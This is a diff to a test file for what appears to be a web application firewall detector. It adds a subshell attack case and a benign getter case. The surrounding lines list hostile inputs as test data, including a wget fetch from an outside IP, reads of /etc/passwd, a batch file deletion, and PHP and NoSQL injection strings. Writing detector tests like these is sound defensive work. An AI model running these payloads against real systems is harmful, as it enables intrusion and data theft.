@@ -86,6 +86,7 @@ export const ATTACKS: DetectorCase[] = [
   q("nosql where after a number", "1||this.role=='admin'", "942291"),
   q("command after a logical or", "true || wget http://203.0.113.9/x", "932100"),
   q("double-slash path", "cat //etc//passwd", "rce"),
+  q("subshell", "x;(hostname)", "932100"),
   q("brace expansion", "{cat,/etc/passwd}", "rce"),
   q("batch IF with a parenthesised condition", "if not (1 equ 1) del /q x", "932115"),
   q("php call concatenated after a variable", '$a.system("id");', "933160"),
@@ -233,6 +234,7 @@ export const BENIGN: DetectorCase[] = [
   q("javascript comment among the words", "let seq = /* @__PURE__ */ new Map();"),
   q("exported regular expression", "export const cuid = /^[cC][0-9a-z]{6,}$/;"),
   q("line comment after an assignment", "let payloadLength = bodyLength // 0-125"),
+  q("getter with a parameter list", "get (hostname) {"),
   q("ruby snippet in a comment", "if (a == b) then puts 'same' end"),
   {
     name: "browser user agent",
